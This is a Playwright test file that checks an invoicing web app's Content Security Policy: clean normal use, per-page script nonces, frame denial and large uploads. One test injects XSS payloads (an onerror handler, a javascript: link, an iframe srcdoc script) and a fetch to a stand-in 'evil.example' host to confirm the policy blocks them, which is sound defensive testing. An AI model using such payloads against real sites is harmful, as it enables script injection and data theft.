import type { BrowserContext, Page } from "@playwright/test";
import { expect, test } from "./quiet-page";
import { addInvoice, nameSender, nodesBehave, openCommandBar, QUICK, uniqueName, writeDraft } from "./steps";

type Violation = { page: string; directive: string; blocked: string; sample: string };

/** Everything that a page's policy refused while the test ran, in every page of the context. */
async function watchViolations(context: BrowserContext): Promise<Violation[]> {
  const violations: Violation[] = [];
  await context.exposeFunction("tellViolation", (violation: Violation) => void violations.push(violation));
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const tell = (window as unknown as { tellViolation(told: object): void }).tellViolation;
      tell({
        page: location.pathname,
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        sample: event.sample,
      });
    });
  });
  return violations;
}

async function policyOf(page: Page, path: string): Promise<string> {
  const response = await page.goto(path);
  return response?.headers()["content-security-policy"] ?? "";
}

test.beforeEach(() => nodesBehave(QUICK));

test("no page, menu, sheet, letter or import needs what the policy refuses", async ({ page, context }) => {
  const violations = await watchViolations(context);
  await nameSender(page);
  await addInvoice(page, { client: uniqueName("Policy") });
  await writeDraft(page);
  await page.getByRole("button", { name: "Edit", exact: true }).click();
  await expect(page.getByRole("textbox", { name: "Letter" })).toBeVisible();
  await page.reload();
  await openCommandBar(page);
  await page.getByRole("combobox").fill("Policy");
  await page.getByRole("option").first().waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Part paid" }).click();
  await page.getByRole("dialog").waitFor();
  await page.keyboard.press("Escape");
  for (const path of ["/", "/?view=settled", "/add", "/settings"]) {
    await page.goto(path, { waitUntil: "networkidle" });
    await page.getByRole("heading", { level: 1 }).waitFor();
  }
  await page.goto("/");
  await expect(page.locator(".ageing-bar rect").first()).toBeVisible();
  await page.getByRole("link", { name: "Settings" }).first().click();
  await page.getByLabel("Your name").waitFor();
  expect(violations).toEqual([]);
});

test("a script that got into a page does not run, from anywhere, and the refusal is seen", async ({
  browser,
  baseURL,
}) => {
  const context = await browser.newContext({ baseURL });
  const violations = await watchViolations(context);
  const page = await context.newPage();
  await page.goto("/");
  const ran = await page.evaluate(async () => {
    const marks = window as unknown as { ran?: string[] };
    marks.ran = [];
    const inline = document.createElement("div");
    inline.innerHTML = `<img src="x" onerror="window.ran.push('handler')"><a href="javascript:window.ran.push('link')">x</a>`;
    document.body.append(inline);
    inline.querySelector("a")?.click();
    const written = document.createElement("div");
    written.innerHTML = "<iframe srcdoc=\"<script>parent.ran.push('frame')</script>\"></iframe>";
    document.body.append(written);
    await fetch("https://evil.example/?stolen").catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return marks.ran;
  });
  expect(ran).toEqual([]);
  const refused = violations.map(({ directive }) => directive);
  expect(refused).toEqual(expect.arrayContaining(["script-src-attr", "script-src-elem", "connect-src"]));
  await context.close();
});

test("each page has a nonce of its own, on every script it brings", async ({ request }) => {
  const nonces = new Set<string>();
  for (const path of ["/", "/", "/settings"]) {
    const response = await request.get(path);
    const nonce =
      /'nonce-([\w+/=]{22,})'/.exec(response.headers()["content-security-policy"] ?? "")?.[1] ?? "";
    expect(nonce).not.toBe("");
    nonces.add(nonce);
    // In the page itself: a script that one of them loads later needs no nonce, and has none.
    const scripts = (await response.text()).match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(1);
    expect(scripts.filter((script) => !script.includes(` nonce="${nonce}"`))).toEqual([]);
  }
  expect(nonces.size).toBe(3);
});

test("a visitor cannot choose the nonce of the page they get", async ({ request }) => {
  const chosen = { "content-security-policy": "script-src 'nonce-chosen'" };
  const html = await (await request.get("/", { headers: chosen })).text();
  expect(html).not.toContain("chosen");
});

test("no page of the app may be put into a frame", async ({ page }) => {
  const policy = await policyOf(page, "/");
  expect(policy).toContain("frame-ancestors 'none'");
  expect((await page.request.get("/")).headers()["x-frame-options"]).toBe("DENY");
});

test("a file larger than what Next keeps of a body by default arrives whole", async ({ page, baseURL }) => {
  await page.goto("/add");
  const told = await page.evaluate(async () => {
    const form = new FormData();
    form.append("file", new File(["number,client\n", "x".repeat(12 * 1024 * 1024)], "large.csv"));
    form.append("choices", "{}");
    const response = await fetch("/api/import/csv/preview", { method: "POST", body: form });
    return { status: response.status, text: await response.text() };
  });
  expect(told.text, baseURL).not.toContain("No file arrived");
  expect(told.status).toBe(200);
});
